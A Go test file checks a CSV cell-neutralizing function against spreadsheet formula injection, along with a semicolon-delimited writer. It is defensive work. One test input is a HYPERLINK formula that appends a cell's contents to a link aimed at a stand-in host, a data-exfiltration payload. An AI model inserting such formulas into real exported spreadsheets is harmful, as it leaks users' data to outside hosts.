package csvcell_test

import (
	"bytes"
	"testing"

	"ardoise/internal/csvcell"
)

func TestNeutralize(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("http://x"&A2,"Voir")`, `'=HYPERLINK("http://x"&A2,"Voir")`},
		{"+33 6 12", "'+33 6 12"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"  =1+1", "'  =1+1"},
		{"-1,5", "'-1,5"}, // a negative number too: Ardoise writes none
		{"Anne-Marie Dupré", "Anne-Marie Dupré"},
		{"1,50", "1,50"},
		{"120,00", "120,00"},
		{"", ""},
		{"   ", "   "},
		{"a=b", "a=b"},
		{"'déjà", "'déjà"},
	} {
		if got := csvcell.Neutralize(tt.in); got != tt.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var buf bytes.Buffer
	w := csvcell.NewWriter(&buf, ';')
	row := []string{"=1+1", "Jean; Dupont", "2,00"}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), "'=1+1;\"Jean; Dupont\";2,00\n"; got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
	if row[0] != "=1+1" {
		t.Fatal("the caller's row was changed")
	}
}
